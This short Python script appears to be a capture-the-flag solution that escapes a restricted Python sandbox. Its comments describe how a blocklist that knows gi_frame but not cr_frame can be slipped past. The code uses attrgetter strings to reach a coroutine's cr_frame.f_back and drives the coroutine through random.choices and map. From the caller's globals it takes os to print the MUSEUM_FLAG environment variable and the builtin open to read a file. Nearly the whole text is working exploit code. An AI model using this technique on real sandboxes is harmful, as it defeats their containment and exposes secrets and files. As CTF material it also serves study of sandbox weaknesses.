# A coroutine has a frame as a generator has, under another name: a list of forbidden names that
# knows gi_frame and not cr_frame stops half of them. Here the names are in a text besides.
import random
from operator import attrgetter

found = []


class Pause:
    # What a coroutine can wait for: it hands 1 to whoever drives the coroutine.
    def __await__(self):
        yield 1


async def walk():
    # The coroutine runs: the frame before its own is that of its driver.
    found.append(attrgetter("cr_frame.f_back")(me))
    await Pause()


me = walk()

# No event loop is needed. send drives a coroutine, map calls send, and random.choices, which
# wants to know the weights, drives map.
random.choices("a", map(me.send, [None]))

names = attrgetter("f_globals")(found[0])
print(names["_os"].environ["MUSEUM_FLAG"])
print(names["__builtins__"]["open"](outside["file"]).read())
